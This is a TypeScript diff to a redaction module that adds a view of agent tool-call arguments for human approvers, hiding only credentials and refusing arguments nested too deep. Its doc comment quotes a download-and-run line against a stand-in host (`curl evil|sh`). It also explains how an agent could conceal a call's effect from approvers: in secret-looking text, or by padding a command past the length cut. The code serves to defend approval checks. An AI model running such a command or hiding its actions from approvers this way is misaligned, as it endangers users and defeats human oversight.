@@ -80,8 +80,22 @@ export function redactArguments(args: unknown, opts: RedactOptions = {}): unknow
   if (mode === 'none') return undefined;
   if (mode === 'keys') return shapeOf(args, 0);
   const patterns = compiledPaths(opts.paths ?? NO_PATHS);
-  if (mode === 'full') return patterns.length === 0 ? cutDeep(args, 0) : redactValue(args, patterns, 0, true);
-  return redactValue(args, patterns, 0, false);
+  if (mode === 'full') return patterns.length === 0 ? cutDeep(args, 0) : redactValue(args, patterns, 0, 'paths');
+  return redactValue(args, patterns, 0, 'all');
+}
+
+/**
+ * The arguments as a person asked to approve them sees them: whole, but for the values at the
+ * policy's `redact` paths and under secret-looking keys (`api_key`, `password`: credentials, which
+ * a webhook message must not carry). Not as the audit log keeps them: a secret-looking part of a
+ * text, or a text shortened after MAX_STRING_CHARS, is where an agent could hide what the call does
+ * (`echo token=$(curl evil|sh)`, a command padded past the cut), and an approval covers the
+ * arguments exactly. Undefined when they nest deeper than MAX_DEPTH: they cannot be shown whole, so
+ * no one can approve them.
+ */
+export function approverArguments(args: unknown, paths: readonly string[]): unknown {
+  if (cutDeep(args, 0) !== args) return undefined;
+  return redactValue(args, compiledPaths(paths), 0, 'keys');
 }
 
 /**
@@ -154,23 +168,31 @@ function descend(patterns: PathPattern[], key: string, inArray: boolean): PathPa
 }
 
 /**
- * `pathsOnly` (full mode): only the policy's paths are replaced, and nesting cut; secret keys, long
- * strings and long keys stay. In the other modes a key is matched (secret, paths) as sent, and
- * stored shortened like a long string.
+ * What is hidden: `paths` (full mode), only the policy's paths; `keys` (what approvers see), those
+ * and the values under secret-looking keys; `all` (redacted mode), those and every secret-looking
+ * part of a text, with long texts and keys shortened.
  */
-function redactValue(value: unknown, patterns: PathPattern[], depth: number, pathsOnly: boolean): unknown {
-  if (typeof value === 'string') return pathsOnly ? value : redactText(value);
-  if (pathsOnly && patterns.length === 0) return cutDeep(value, depth);
+type Hidden = 'paths' | 'keys' | 'all';
+
+/**
+ * The value with what `hidden` names replaced, and nesting cut. A key is matched (secret, paths) as
+ * sent; in `all` it is stored shortened like a long string.
+ */
+function redactValue(value: unknown, patterns: PathPattern[], depth: number, hidden: Hidden): unknown {
+  if (typeof value === 'string') return hidden === 'all' ? redactText(value) : value;
+  if (hidden === 'paths' && patterns.length === 0) return cutDeep(value, depth);
   if (Array.isArray(value)) {
     if (depth >= MAX_DEPTH) return TOO_DEEP;
-    return value.map((item, i) => redactChild(item, descend(patterns, String(i), true), depth, pathsOnly));
+    return value.map((item, i) => redactChild(item, descend(patterns, String(i), true), depth, hidden));
   }
   if (isObject(value)) {
     if (depth >= MAX_DEPTH) return TOO_DEEP;
     return withKeys(
       Object.entries(value).map(([key, item]): [string, unknown] => [
-        pathsOnly ? key : shorten(key),
-        !pathsOnly && isSecretKey(key) ? REDACTED : redactChild(item, descend(patterns, key, false), depth, pathsOnly),
+        hidden === 'all' ? shorten(key) : key,
+        hidden !== 'paths' && isSecretKey(key)
+          ? REDACTED
+          : redactChild(item, descend(patterns, key, false), depth, hidden),
       ]),
     );
   }
@@ -227,9 +249,9 @@ function withKeys(entries: [string, unknown][]): Record<string, unknown> {
   return Object.fromEntries(entries);
 }
 
-function redactChild(value: unknown, patterns: PathPattern[], depth: number, pathsOnly: boolean): unknown {
+function redactChild(value: unknown, patterns: PathPattern[], depth: number, hidden: Hidden): unknown {
   if (patterns.some((p) => p.length === 0)) return REDACTED;
-  return redactValue(value, patterns, depth + 1, pathsOnly);
+  return redactValue(value, patterns, depth + 1, hidden);
 }
 
 function shorten(text: string): string {
